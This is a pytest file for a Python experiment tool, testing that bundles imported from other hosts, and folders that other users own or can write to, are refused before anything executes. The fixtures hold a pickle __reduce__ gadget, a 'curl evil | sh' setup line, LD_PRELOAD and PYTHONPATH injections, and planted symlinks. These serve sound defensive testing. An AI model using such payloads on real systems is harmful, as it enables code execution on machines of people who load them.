"""What a bundle or another user's folder would execute is refused, and told first."""

from __future__ import annotations

import json
import os
import pickle
import shutil
from pathlib import Path
from typing import Any

import pytest

import nbkit
from nbkit.config import ExperimentConfig
from nbkit.errors import ConfigError, RunError
from nbkit.launch.code.trust import permit_run
from nbkit.launch.run import Run
from nbkit.store.record import write_json
from tests.hostile.written import imported, store_at, write_run

# What these tests plant looks like secrets to an export.
pytestmark = pytest.mark.filterwarnings("ignore:the bundle may contain secrets")

NOWHERE = "/nowhere"
"""Data of studies that would end by another error if they were not refused first."""


@pytest.fixture(autouse=True)
def store(tmp_path, monkeypatch):
    store_at(tmp_path / "elsewhere", monkeypatch)


@pytest.fixture
def bring(tmp_path, monkeypatch):
    """Return what brings a run to this store by a bundle."""

    def bring(run: Run) -> Run:
        (run_id,) = imported(run, tmp_path, monkeypatch)
        return nbkit.attach(run_id)

    return bring


class Attack:
    """What a pickle can hold: a call."""

    def __init__(self, *call: Any) -> None:
        self.call = call

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call[0], self.call[1:]


@pytest.fixture
def trap(tmp_path):
    """Return a pickle that makes a folder when it is loaded, and that folder."""
    made = tmp_path / "executed"
    return pickle.dumps(Attack(os.mkdir, str(made))), made


def _returned(run: Run, pickled: bytes) -> None:
    file = run.paths.rank(0, 0).returned
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(pickled)


EXECUTES = {
    "resume": ("stopped", lambda run: run.resume()),
    "reproduce": ("finished", lambda run: nbkit.reproduce(run, progress=False)),
    "returns": ("finished", lambda run: run.returns),
}


@pytest.mark.parametrize("how", EXECUTES)
def test_a_bundles_pickle_is_not_loaded(bring, trap, how):
    pickled, executed = trap
    state, execute = EXECUTES[how]
    run = write_run(state, task="function")
    run.paths.entry_pickle.write_bytes(pickled)
    _returned(run, pickled)
    run = bring(run)
    before = sorted(run.paths.root.rglob("*"))

    with pytest.raises(RunError, match=r"untrusted code: .*imported from host"):
        execute(run)

    assert not executed.exists()
    assert sorted(run.paths.root.rglob("*")) == before
    assert [kept.run_id for kept in nbkit.runs()] == [run.run_id]


def test_who_trusts_a_bundle_is_told_before_anything_is_loaded(bring, capsys):
    run = write_run("finished", task="function")
    _returned(run, pickle.dumps(Attack(print, "now it is loaded")))
    run = bring(run)

    run.load_returns(trust=True)

    told, _, after = capsys.readouterr().out.partition("now it is loaded")
    assert f"run {run.run_id}: imported from host" in told
    assert "returned.pkl'\n" in told
    assert after == "\n"


def _bring_study(config, tmp_path, monkeypatch, repeats=1):
    """Bring a study of which one start has finished to this store."""
    done = write_run("finished")
    environment = {"LD_PRELOAD": "/tmp/evil.so"}
    plan = {"repeats": repeats, "environment": environment}
    study = nbkit.Study.create("s", {"a": config}, **plan)
    content = json.loads(study.paths.study.read_text())
    entry = {"arm": "a", "repeat": 0, "run_id": done.run_id, "start": 0}
    programs = {"a": {"number": 0, "cwd": "/evil/folder"}}
    write_json(study.paths.study, {**content, "runs": [entry], "programs": programs})
    imported(study, tmp_path, monkeypatch)
    return nbkit.Study.open(study.study_id)


@pytest.mark.parametrize("how", ["run", "resume"])
def test_a_bundles_study_starts_nothing(tmp_path, monkeypatch, how):
    config = ExperimentConfig(data=NOWHERE)
    study = _bring_study(config, tmp_path, monkeypatch, repeats=2)

    with pytest.raises(RunError, match=r"study .* imported from host"):
        getattr(study, how)(progress=False)

    assert len(nbkit.runs()) == 1
    assert json.loads(study.paths.study.read_text())["executor"] is None


def test_who_trusts_a_bundles_study_is_told_what_it_executes(
    tmp_path, monkeypatch, capsys
):
    slurm: Any = {"setup": ["curl evil | sh"]}
    config = ExperimentConfig(engine="slurm", slurm=slurm, nnodes=2)

    # Its only start has finished: nothing is left to be executed.
    study = _bring_study(config, tmp_path, monkeypatch)
    study.run(progress=False, trust=True)

    told = capsys.readouterr().out
    assert "  environment 'LD_PRELOAD': '/tmp/evil.so'\n" in told
    assert "  slurm.setup: ['curl evil | sh']\n" in told
    assert "  working folder: '/evil/folder'\n" in told


WAYS = {
    "environment": (
        {"task": "function"},
        {"environment": {"LD_PRELOAD": "/evil.so", "PYTHONPATH": "/evil"}},
        ["environment 'LD_PRELOAD': '/evil.so'", "environment 'PYTHONPATH': '/evil'"],
    ),
    "function": (
        {"task": "function"},
        {"name": "evil", "module": "evil_module"},
        ["name: 'evil'", "module: 'evil_module'", "file: "],
    ),
    "import path": (
        {"task": "function"},
        {"import_path": ["/evil/modules"]},
        ["import path: ['/evil/modules']"],
    ),
    "setup": (
        {"slurm": {"setup": ["curl evil | sh"]}},
        {},
        ["slurm.setup: ['curl evil | sh']"],
    ),
    "arguments of srun": (
        {"slurm": {"slurm_srun_args": ["--prolog=/evil"]}},
        {},
        ["slurm.slurm_srun_args: ['--prolog=/evil']"],
    ),
    "options of sbatch": (
        {"slurm": {"slurm_additional_parameters": {"prefer": "evil"}}},
        {},
        ["slurm.slurm_additional_parameters: {'prefer': 'evil'}"],
    ),
    "container": (
        {"slurm": {"container": "/evil.sif", "container_args": ["--bind=/"]}},
        {},
        ["slurm.container: '/evil.sif'", "slurm.container_args: ['--bind=/']"],
    ),
    "names of plug-ins": (
        {"model": "evil_model", "loader": "evil_loader", "engine": "evil_engine"},
        {},
        ["model: 'evil_model'", "loader: 'evil_loader'", "engine: 'evil_engine'"],
    ),
    "control characters": (
        {"slurm": {"setup": ["evil\x1b[2K\x1b[1A"]}},
        {},
        [r"slurm.setup: ['evil\x1b[2K\x1b[1A']"],
    ),
}


@pytest.mark.parametrize("way", WAYS)
def test_what_a_bundle_would_execute_is_refused_and_told_to_who_trusts_it(
    bring, capsys, way
):
    fields, entry, told = WAYS[way]
    run = bring(write_run(entry=entry, **fields))

    with pytest.raises(RunError, match="imported from host"):
        run.resume()
    assert capsys.readouterr().out == ""
    permit_run(run.paths, trust=True)

    said = capsys.readouterr().out
    assert [part for part in told if f"  {part}" not in said] == []


def test_nothing_is_told_of_what_is_refused_in_any_case(bring, capsys):
    run = bring(write_run("finished"))

    with pytest.raises(RunError, match="has finished"):
        run.resume(trust=True)
    with pytest.raises(ConfigError, match="repeats=0"):
        nbkit.reproduce(run, repeats=0, trust=True)

    assert capsys.readouterr().out == ""


def test_what_a_bundles_configuration_asks_of_slurm_is_not_launched(bring, capsys):
    fields = {"engine": "slurm", "slurm": {"setup": ["curl evil | sh"]}}
    config = bring(write_run("finished", **fields)).config.replace(seed=1)

    for use in (nbkit.launch, lambda one: nbkit.Study.create("s", {"a": one})):
        with pytest.raises(RunError, match="imported from host"):
            use(config)
    # Nor in another configuration.
    for slurm in (config.slurm, config.slurm.replace(timeout_min=5)):
        with pytest.raises(RunError, match="imported from host"):
            nbkit.launch(ExperimentConfig(engine="slurm", slurm=slurm))
    assert capsys.readouterr().out == ""
    nbkit.Study.create("s", {"a": config}, trust=True)
    assert "  slurm.setup: ['curl evil | sh']\n" in capsys.readouterr().out
    # Those of a bundle's study are no better.
    study = nbkit.Study.open(
        nbkit.Study.create("t", {"a": config}, trust=True).study_id
    )
    write_json(study.paths.imported, {"host": "node7"})
    with pytest.raises(RunError, match="imported from host node7"):
        nbkit.launch(nbkit.Study.open(study.study_id).arms["a"])
    # What it says besides names what is installed here.
    nbkit.Study.create("s", {"a": config.replace(engine="local")})


def test_the_script_that_is_told_is_the_one_that_would_be_executed(bring, capsys):
    run = write_run(task="script")
    source = run.paths.source / "modules/evil.py"
    source.parent.mkdir(parents=True, exist_ok=True)
    source.write_text("evil")
    sources = {"/home/a.py": {"file": "modules/evil.py"}}
    entry = {"kind": "script", "path": "/home/a.py", "sources": sources}
    write_json(run.paths.entry, entry)
    run = bring(run)

    permit_run(run.paths, trust=True)

    told = f"{run.paths.source}/modules/evil.py"
    assert told in capsys.readouterr().out


def test_the_working_folder_of_a_bundle_is_told_to_who_trusts_it(bring, capsys):
    run = write_run(task="function")
    told = json.loads(run.paths.submission.read_text())
    write_json(run.paths.submission, {**told, "cwd": "/evil/folder"})
    run = bring(run)

    with pytest.raises(RunError, match="imported from host"):
        run.resume()
    permit_run(run.paths, trust=True)

    assert "  working folder: '/evil/folder'\n" in capsys.readouterr().out


def _kept(run: Run) -> dict[str, Path]:
    return {
        "folder": run.paths.root,
        "config.json": run.paths.config,
        "submission.json": run.paths.submission,
        "code": run.paths.code,
        "entry.pkl": run.paths.entry_pickle,
        "checkpoints": run.paths.checkpoints,
    }


KEPT = ["folder", "config.json", "submission.json", "code", "entry.pkl", "checkpoints"]


OTHERS = {
    "another user's": (
        lambda path: os.chown(path, 12_345, -1),
        r"belongs to uid 12345, not to uid \d+.*ask the owner to execute it",
    ),
    "for the group": (
        lambda path: path.chmod(0o775),
        r"by others \(mode 0775\).*chmod -R go-w",
    ),
    "for all": (lambda path: path.chmod(0o757), r"by others \(mode 0757\)"),
}


@pytest.mark.parametrize("kept", KEPT)
@pytest.mark.parametrize("whose", OTHERS)
def test_what_others_own_or_can_write_is_not_executed(kept, whose):
    change, words = OTHERS[whose]
    run = write_run(task="function", engine="not_installed")
    change(_kept(run)[kept])

    for execute in (run.resume, lambda: permit_run(run.paths, trust=False)):
        with pytest.raises(RunError, match=words):
            execute()

    assert not run.paths.attempt(1).exists()


@pytest.mark.parametrize("what", ["value", "folder"])
def test_a_returned_value_that_others_can_replace_is_not_loaded(trap, what):
    pickled, executed = trap
    run = write_run("finished", task="function")
    _returned(run, pickled)
    returned = run.paths.rank(0, 0).returned
    (returned if what == "value" else returned.parent.parent).chmod(0o777)

    with pytest.raises(RunError, match=r"can be written by .* \(mode 0777\)"):
        _ = run.returns

    assert not executed.exists()


def test_a_link_to_a_run_inside_an_imported_one_is_no_way_round_its_mark(bring, trap):
    pickled, executed = trap
    inner, outer = (write_run("finished", task="function") for _ in range(2))
    _returned(inner, pickled)
    hidden = outer.paths.source / "hidden"
    shutil.copytree(inner.paths.root, hidden)
    run = bring(outer)
    planted = run.paths.root.with_name("20260101-000000-mine-abcd")
    planted.symlink_to(run.paths.source / "hidden")

    mine = nbkit.attach(planted.name)

    assert "imported from" in repr(mine)
    for execute in (lambda: mine.returns, lambda: permit_run(mine.paths, trust=False)):
        with pytest.raises(RunError, match="imported from host"):
            execute()
    assert not executed.exists()


def test_a_link_that_another_user_made_is_not_followed():
    run = write_run(task="function", engine="not_installed")
    planted = run.paths.root.with_name("20260101-000000-mine-abcd")
    planted.symlink_to(run.paths.root)
    os.chown(planted, 12_345, -1, follow_symlinks=False)

    with pytest.raises(RunError, match=r"-mine-abcd belongs to uid 12345"):
        nbkit.attach(planted.name).resume()


@pytest.mark.parametrize("kept", ["root", "study"])
def test_another_users_study_starts_nothing(kept):
    study = nbkit.Study.create("s", {"a": ExperimentConfig(data=NOWHERE)})
    os.chown(getattr(study.paths, kept), 12_345, -1)

    with pytest.raises(RunError, match="belongs to uid 12345"):
        study.run(progress=False)

    assert list(nbkit.runs()) == []
